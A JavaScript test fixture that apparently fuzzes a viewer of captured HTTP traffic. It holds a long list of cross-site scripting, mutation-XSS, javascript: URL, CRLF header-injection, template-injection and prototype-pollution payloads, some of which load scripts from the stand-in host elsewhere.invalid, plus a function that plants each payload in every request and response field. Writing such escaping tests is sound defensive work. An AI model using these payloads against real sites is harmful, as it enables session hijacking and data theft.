// Texts that run where a page does not escape them, or escapes them for another place than they are in.
// Each calls the mark, or asks another origin for something; either is seen.

import { MARK } from "./watch.mjs";

const RUN = `${MARK}(document.URL)`;
const ELSEWHERE = "https://elsewhere.invalid";

export const PAYLOADS = [
  // Elements and their handlers.
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/a.js"></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${ELSEWHERE}/a.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#a"/></svg>`,
  `<math><maction actiontype="statusline" href="javascript:${RUN}">a</maction></math>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>a</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${ELSEWHERE}/a.swf">`,
  `<a href="javascript:${RUN}" autofocus>a</a>`,
  `<a href="${ELSEWHERE}/" target=_blank>a</a>`,
  `<form action="${ELSEWHERE}/"><button autofocus>a</button></form>`,
  `<button formaction="javascript:${RUN}" form=filter>a</button>`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel=stylesheet href="${ELSEWHERE}/a.css">`,
  `<style>@import "${ELSEWHERE}/a.css"; body { display: none }</style>`,
  `<div style="background:url(${ELSEWHERE}/a.png);position:fixed;inset:0">a</div>`,
  `<dialog open id=keys onclose=${RUN}>a</dialog>`,
  `<x onclick=${RUN} tabindex=0 onfocus=${RUN} autofocus>a`,
  `<marquee onstart=${RUN}>a</marquee>`,
  // Out of an attribute, an element, a comment, a text that is not parsed.
  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
  `' onmouseover=${RUN} autofocus onfocus=${RUN} x='`,
  `\` onmouseover=${RUN} x=\``,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</pre></td></tr></table><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script><![CDATA[`,
  `<!--><img src=x onerror=${RUN}>-->`,
  // What changes its meaning when it is parsed a second time.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  // Addresses that are scripts.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://shop.example/`,
  `java\tscript:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `vbscript:${RUN}`,
  `//elsewhere.invalid/%2e%2e`,
  // Characters that parsers and people disagree about.
  `＜script＞${RUN}＜/script＞`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `\u202e>tpircs<\u202c<img src=x onerror=${RUN}>`,
  `\u2028<script>${RUN}</script>\u2029`,
  `<ſcript>${RUN}</ſcript>`,
  `<img/src=x/onerror=${RUN}\u000c>`,
  `\ufeff<script>${RUN}</script>`,
  // Headers, templates, names that objects have already.
  `a\r\nSet-Cookie: session=stolen\r\n\r\n<script>${RUN}</script>`,
  `a\r\nContent-Security-Policy: script-src *\r\n`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"hidden":true,"src":"${ELSEWHERE}/"},"constructor":{"prototype":{"open":true}}}`,
  `url(${ELSEWHERE}/a.png)`,
  `red;}*{background:url(${ELSEWHERE}/a.png)}`,
  `data: {"html":"<img src=x onerror=${RUN}>"}\n\nevent: exchange\ndata: {"uuid":"x","html":"<script>${RUN}</script>"}\n\n`,
];

const TYPES = {
  "text/html": (text) => `<html><body>${text}</body></html>`,
  "image/svg+xml": (text) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><title>${text}</title><script>${RUN}</script></svg>`,
  "application/xml": (text) => `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "${ELSEWHERE}">]><a b="${text.replaceAll('"', "&quot;")}">${text}<![CDATA[${text}]]><!--${text}--></a>`,
  "application/json": (text) => JSON.stringify({ [text]: text, deep: [{ [text]: [text] }] }),
  "application/x-www-form-urlencoded": (text) => new URLSearchParams([[text, text]]).toString(),
  "multipart/form-data; boundary=edge": (text) => {
    const line = text.replace(/[\r\n"]/g, " ");
    return `--edge\r\nContent-Disposition: form-data; name="${line}"; filename="${line}"\r\nContent-Type: ${line}\r\n\r\n${text}\r\n--edge\r\nContent-Disposition: form-data; name=x\r\nContent-Type: text/html\r\n\r\n${text}\r\n--edge--\r\n`;
  },
  "text/plain": (text) => text,
  "application/javascript": (text) => `${RUN};${text}`,
  "text/css": (text) => `a { content: "${text}" }`,
};
const KINDS = Object.entries(TYPES);

// A call with one text in every place that a captured call has; the kinds of its bodies are by turns.
export function planted(text, turn) {
  const [requestType, requestBody] = KINDS[turn % KINDS.length];
  const [responseType, responseBody] = KINDS[(turn + Math.floor(turn / KINDS.length) + 4) % KINDS.length];
  const headers = (type) => ({
    "content-type": type,
    [text || "x"]: [text, `second ${text}`],
    cookie: `session=${text}; ${text}=1`,
    "set-cookie": [`a=${text}; Path=/`, `${text}=b`],
    location: text,
    referer: text,
    "content-disposition": `inline; filename="${text}"`,
    "content-security-policy": "script-src * 'unsafe-inline'",
  });
  return {
    unique_identifier: `${turn} ${text}`.slice(0, 200),
    request: {
      method: text,
      url: turn % 2 ? `https://${text}/${text}?${text}=${text}#${text}` : text,
      headers: headers(requestType),
      body: requestBody(text),
      timestamp: Date.now() / 1000,
    },
    response: {
      status: 200 + turn,
      reason: text,
      headers: headers(turn % 5 ? responseType : text),
      body: responseBody(text),
      response_time: 0.01,
    },
    context: {
      route: text,
      consumer: text,
      service: text,
      error: text,
      client_address: text,
      protocol: text,
      trace_id: text,
      tags: { [text]: text, plain: text },
      outcome: turn % 3 ? "complete" : "error",
      total_time: 0.02,
    },
  };
}
